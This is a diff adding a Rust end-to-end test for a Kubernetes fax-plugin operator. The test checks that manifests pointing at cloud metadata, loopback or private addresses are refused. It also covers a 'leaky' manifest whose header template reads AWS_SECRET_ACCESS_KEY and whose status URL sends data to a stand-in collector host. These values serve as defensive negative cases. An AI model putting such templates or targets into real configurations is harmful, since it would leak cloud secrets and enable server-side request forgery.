@@ -747,3 +747,169 @@ async fn the_operator_needs_only_its_documented_rbac() {
     assert!(operator.terminate());
     let _ = dir;
 }
+
+/// The shipped Phaxio manifest as a FaxPluginManifest named `name`, changed by `change`.
+fn manifest_resource(name: &str, change: impl Fn(&mut serde_json::Value)) -> serde_json::Value {
+    let mut manifest: serde_json::Value =
+        serde_json::from_str(include_str!("../../manifests/phaxio-http.json")).unwrap();
+    change(&mut manifest);
+    json!({"apiVersion": "fax.faxbot.io/v1alpha1", "kind": "FaxPluginManifest", "metadata": {"name": name},
+        "spec": {"manifest": manifest}})
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn plugin_manifests_are_refused_at_admission_and_by_the_operator() {
+    use faxbot_crds::FaxPluginManifest;
+    let _cluster = shared_cluster().await;
+    let Some(kubeconfig) = kubeconfig() else { return };
+    let client = client(&kubeconfig).await;
+    install_crds(&client).await;
+    let ns = namespace(&client, "e2e-man").await;
+    let _cleanup = cleanup(&kubeconfig, &[&ns]);
+
+    // Admission (the CRD's schema and CEL rules): refused before anything stores them.
+    let cases: Vec<(&str, serde_json::Value, &str)> = vec![
+        (
+            "metadata address",
+            manifest_resource("meta", |m| m["allowedDomains"] = json!(["169.254.169.254"])),
+            "must not be a link-local or metadata address",
+        ),
+        (
+            "metadata name",
+            manifest_resource("meta-name", |m| m["allowedDomains"] = json!(["metadata.google.internal"])),
+            "must not be a link-local or metadata address",
+        ),
+        (
+            "loopback",
+            manifest_resource("loop", |m| m["allowedDomains"] = json!(["127.0.0.1"])),
+            "is a loopback address",
+        ),
+        (
+            "private range",
+            manifest_resource("private", |m| m["allowedDomains"] = json!(["api.phaxio.com", "172.20.0.9"])),
+            "allowedDomains holds a private or shared address",
+        ),
+        (
+            "no webhook verification",
+            manifest_resource("open", |m| m["webhook"]["verification"] = json!({"scheme": "none"})),
+            "declares no webhook verification",
+        ),
+        ("bad id", manifest_resource("bad-id", |m| m["id"] = json!("Not An Id")), "spec.manifest.id"),
+    ];
+    for (what, resource, fragment) in cases {
+        let err = apply_json::<FaxPluginManifest>(&client, &ns, resource).await.expect_err(what);
+        let message = match &err {
+            kube::Error::Api(s) => s.message.clone(),
+            other => panic!("{what}: {other}"),
+        };
+        assert!(message.contains(fragment), "{what}: {message}");
+    }
+    // A private gateway is accepted with allowPrivateNetwork, and the manifest as shipped is accepted.
+    apply_json::<FaxPluginManifest>(
+        &client,
+        &ns,
+        manifest_resource("gateway", |m| {
+            m["id"] = json!("gateway-fax");
+            m["allowedDomains"] = json!(["10.20.30.40"]);
+            m["allowPrivateNetwork"] = json!(true);
+        }),
+    )
+    .await
+    .unwrap();
+    apply_json::<FaxPluginManifest>(&client, &ns, manifest_resource("phaxio", |_| {})).await.unwrap();
+
+    // What CEL cannot see, the operator refuses with the API server's own check: a template that reads the
+    // environment, a host outside allowedDomains.
+    let _operator = Operator::start(&kubeconfig, &ns, "op-m");
+    apply_json::<FaxPluginManifest>(
+        &client,
+        &ns,
+        manifest_resource("leaky", |m| {
+            m["actions"]["send"]["headers"] = json!({"X-Leak": "{{ env.AWS_SECRET_ACCESS_KEY }}"});
+            m["actions"]["status"]["url"] = json!("https://collector.example.net/{{ provider_id }}");
+        }),
+    )
+    .await
+    .unwrap();
+    let manifests: Api<FaxPluginManifest> = Api::namespaced(client.clone(), &ns);
+    let ready = |name: &'static str| {
+        let manifests = manifests.clone();
+        async move {
+            wait_for(Duration::from_secs(60), name, || {
+                let manifests = manifests.clone();
+                async move {
+                    let m = manifests.get(name).await.ok()?;
+                    let status = m.status?;
+                    (status.observed_generation == m.metadata.generation).then_some(())?;
+                    let c = status.conditions.iter().find(|c| c.type_ == "Ready")?;
+                    Some((c.reason.clone(), c.message.clone()))
+                }
+            })
+            .await
+        }
+    };
+    let (reason, message) = ready("leaky").await;
+    assert_eq!(reason, "InvalidManifest", "{message}");
+    assert!(
+        message.contains("spec.manifest.actions.send.headers.X-Leak: reads `env.AWS_SECRET_ACCESS_KEY`"),
+        "{message}"
+    );
+    assert!(message.contains("host `collector.example.net` is not in allowedDomains"), "{message}");
+    let events = events_for(&client, &ns, "leaky").await;
+    assert!(
+        events.iter().any(|e| e.reason.as_deref() == Some("InvalidManifest") && e.type_.as_deref() == Some("Warning")),
+        "a Warning Event: {events:?}"
+    );
+    assert_eq!(ready("phaxio").await.0, "Valid");
+
+    // A FaxProvider of the manifest's plugin: valid through its manifestRef, and the config puts the manifest
+    // into the runtime document the API server reads.
+    put_secret(&client, &ns, "phaxio-creds", &[("apiKey", "k-value-1"), ("apiSecret", "s-value-1")]).await;
+    put_secret(&client, &ns, "admin", &[("adminKey", ADMIN_KEY), ("pepper", PEPPER)]).await;
+    let mut fax = provider("fax", "phaxio-http", json!({"pollIntervalMs": 5000}), Some("phaxio-creds"));
+    fax["spec"]["manifestRef"] = json!({"name": "phaxio"});
+    apply_json::<FaxProvider>(&client, &ns, fax).await.unwrap();
+    let mut wrong = provider("wrong", "phaxio-http", json!({}), Some("phaxio-creds"));
+    wrong["spec"]["manifestRef"] = json!({"name": "leaky"});
+    apply_json::<FaxProvider>(&client, &ns, wrong).await.unwrap();
+    apply_json::<FaxProvider>(&client, &ns, provider("keys", "api_keys", json!({}), Some("admin"))).await.unwrap();
+    let providers: Api<FaxProvider> = Api::namespaced(client.clone(), &ns);
+    let provider_reason = |name: &'static str| {
+        let providers = providers.clone();
+        async move {
+            wait_for(Duration::from_secs(60), name, || {
+                let providers = providers.clone();
+                async move {
+                    let p = providers.get(name).await.ok()?;
+                    let c = p.status?.conditions.into_iter().find(|c| c.type_ == "Ready")?;
+                    Some((c.reason, c.message))
+                }
+            })
+            .await
+        }
+    };
+    assert_eq!(provider_reason("fax").await.0, "Valid");
+    let (reason, message) = provider_reason("wrong").await;
+    assert_eq!(reason, "InvalidManifest", "{message}");
+
+    let mut config = plugin_config("main", "keys", 1);
+    config["spec"]["slots"]["outbound"] = json!(["fax"]);
+    config["spec"]["features"] = json!({"pluginInstall": true});
+    apply_json::<FaxPluginConfig>(&client, &ns, config).await.unwrap();
+    let cm_api: Api<ConfigMap> = Api::namespaced(client.clone(), &ns);
+    let document = wait_for(Duration::from_secs(60), "the runtime document", || {
+        let cm_api = cm_api.clone();
+        async move {
+            let cms = cm_api.list(&ListParams::default()).await.ok()?;
+            cms.items.into_iter().find_map(|cm| {
+                let doc = cm.data.as_ref()?.get(names::CONFIG_KEY)?.clone();
+                doc.contains("phaxio-http").then_some(doc)
+            })
+        }
+    })
+    .await;
+    let document: serde_json::Value = serde_json::from_str(&document).unwrap();
+    assert_eq!(document["manifests"][0]["id"], "phaxio-http");
+    assert_eq!(document["providers"]["outbound"]["plugin"], "phaxio-http");
+    faxbot_contract::validate::parse_and_validate(document.to_string().as_bytes()).unwrap();
+}
